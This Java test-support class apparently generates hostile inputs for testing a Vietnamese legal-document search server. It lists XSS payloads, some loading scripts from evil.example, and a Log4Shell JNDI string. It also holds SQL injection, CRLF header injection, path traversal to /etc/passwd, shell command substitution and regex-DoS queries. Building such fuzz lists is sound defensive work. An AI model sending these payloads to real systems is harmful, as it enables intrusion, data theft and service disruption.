package vn.vankien.search.http;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

/** Questions that would hurt and scripts that would run, made from their parts. */
final class Payloads {

  private static final List<String> EVENTS =
      List.of("onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin");

  private static final List<String> TAGS =
      List.of(
          "img src=x",
          "svg",
          "body",
          "iframe",
          "details open",
          "video",
          "input autofocus",
          "a",
          "math",
          "marquee",
          "object data=x",
          "embed src=x");

  private static final List<String> BREAKOUTS =
      List.of("", "\">", "'>", "</title>", "</textarea>", "-->", "</script>", "</mark>", "]]>");

  private static final List<String> ADDRESSES =
      List.of(
          "javascript:alert(1)",
          "JaVaScRiPt:alert(1)",
          "java\tscript:alert(1)",
          " javascript:alert(1)",
          "javascript&colon;alert(1)",
          "data:text/html,<script>alert(1)</script>",
          "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
          "vbscript:msgbox(1)",
          "file:///etc/passwd",
          "blob:https://evil.example/1",
          "//evil.example/x.js",
          "https:evil.example",
          "http://evil.example\" onmouseover=\"alert(1)",
          "http://evil.example/'onclick='alert(1)",
          "http://[",
          "\u0001javascript:alert(1)");

  private Payloads() {}

  /** What a page may carry that wants to become part of ours. */
  static List<String> scripts() {
    List<String> scripts = new ArrayList<>();
    for (String out : BREAKOUTS) {
      scripts.add(out + "<script>alert(1)</script>");
      scripts.add(out + "<ScRiPt src=//evil.example/x.js></sCrIpT>");
      scripts.add(out + "<style>*{background:url(//evil.example)}</style>");
      scripts.add(out + "<link rel=stylesheet href=//evil.example>");
      scripts.add(out + "<base href=//evil.example/>");
      scripts.add(out + "<meta http-equiv=refresh content='0;url=//evil.example'>");
      scripts.add(out + "<form action=//evil.example><button>x</button></form>");
      for (String tag : TAGS) {
        for (String event : EVENTS) {
          scripts.add(out + '<' + tag + ' ' + event + "=alert(1)>");
        }
      }
    }
    for (String address : ADDRESSES) {
      scripts.add("<a href=\"" + address + "\">x</a>");
    }
    scripts.add("<mark onclick=alert(1)>x</mark>");
    scripts.add("&lt;script&gt;alert(1)&lt;/script&gt;");
    scripts.add("&#60;script&#62;alert(1)&#60;/script&#62;");
    scripts.add("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e");
    scripts.add("${alert(1)} {{alert(1)}} <%= alert(1) %> @template.layout()");
    scripts.add("<svg><![CDATA[<script>alert(1)</script>]]></svg>");
    scripts.add("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>");
    scripts.add("\uff1cscript\uff1ealert(1)\uff1c/script\uff1e");
    return scripts;
  }

  /** Where a crawled page may say that it comes from. */
  static List<String> addresses() {
    return ADDRESSES;
  }

  /** Questions that break parsers, blow up engines, or try to leave the line they stand on. */
  static List<String> questions() {
    List<String> questions = new ArrayList<>();
    for (String bracket : List.of("(", "[", "{", "\"", "'", "“", "<", "/*", "((", "\\", "NOT ")) {
      for (int n : new int[] {1, 2, 50, 999 / bracket.length()}) {
        questions.add(bracket.repeat(n));
        questions.add("cán bộ " + bracket.repeat(Math.min(n, 900 / bracket.length())));
      }
    }
    for (String operator :
        List.of("AND", "OR", "NOT", "&&", "||", "!", "+", "-", "TO", "~", "^", "*", "?", ":")) {
      questions.add(operator);
      questions.add("cán bộ " + operator);
      questions.add(operator + " cán bộ");
      questions.add("cán " + operator + operator + " bộ");
    }
    for (String wild :
        List.of(
            "/a{1,1000}{1,1000}/",
            "/(a+)+$/",
            "/(.*)*x/",
            "/[^]*/",
            "*",
            "**",
            "*a*",
            "?????",
            "*cán*bộ*",
            "*:*",
            "title:*",
            "text:[* TO *]",
            "_exists_:title",
            "a~",
            "a~2 ".repeat(200).strip(),
            "cán~0.9999999999999999999",
            "cán^99999999999999999999",
            "cán^-1",
            "[a TO zzzz]",
            "{a TO *]")) {
      questions.add(wild);
    }
    for (String number :
        List.of(
            "0",
            "-1",
            "99999999999999999999",
            "18-NQ/TW".repeat(100),
            "1-1-1-1/1/1/1/1",
            "00000000000000000000018-NQ/TW",
            "18-/TW",
            "-NQ/TW",
            "18--NQ//TW",
            "1/1/1/1/1/1/1/1/1/1",
            "32/13/2099",
            "ngày 99 tháng 99 năm 9999",
            "từ 2022 đến 1999",
            "NaN Infinity 1e309 0x7fffffff")) {
      questions.add(number);
    }
    for (int code : new int[] {0, 1, 7, 8, 9, 10, 11, 12, 13, 27, 127, 133, 0x2028, 0x2029}) {
      questions.add("cán" + (char) code + "bộ");
      questions.add(String.valueOf((char) code).repeat(200));
    }
    for (String odd :
        List.of(
            "\ud83d\ude00".repeat(400),
            "e\u0301\u0302\u0303\u0309\u0323".repeat(150),
            "\u202e\u2066\u2069\u200f cán bộ",
            "\ufeff\u200b\u00ad\u2060",
            "\ufffd\ufffe\uffff",
            "ﬁ Ⅷ ① ％ ｎｑ １８",
            "İıŞşĞğ ẞß",
            "𝐜𝐚́𝐧 𝐛𝐨̣̂",
            "a\u0300".repeat(333),
            "漢字 かな 한국어 עברית العربية")) {
      questions.add(odd);
    }
    for (String injection :
        List.of(
            "a\r\nSet-Cookie: x=1",
            "a\r\n\r\n<html>",
            "a%0d%0aX: y",
            "' OR 1=1 --",
            "'; DROP TABLE entry; --",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}",
            "#{7*7}",
            "<%= 7*7 %>",
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "file:///etc/passwd",
            "|| cat /etc/passwd",
            "$(id)",
            "`id`",
            "a\u0000.html",
            "%00",
            "%2e%2e%2f",
            "\\x00\\xff",
            "ERROR 12:00:00 tampered line")) {
      questions.add(injection);
    }
    questions.add("a ".repeat(499).strip());
    questions.add("cán bộ ".repeat(142).strip());
    questions.add("x".repeat(1000));
    questions.add("1".repeat(1000));
    questions.add(" ".repeat(1000));
    questions.add("LUÂN CHUYỂN CÁN BỘ".toLowerCase(Locale.ROOT).repeat(50));
    questions.addAll(ADDRESSES);
    return questions;
  }
}
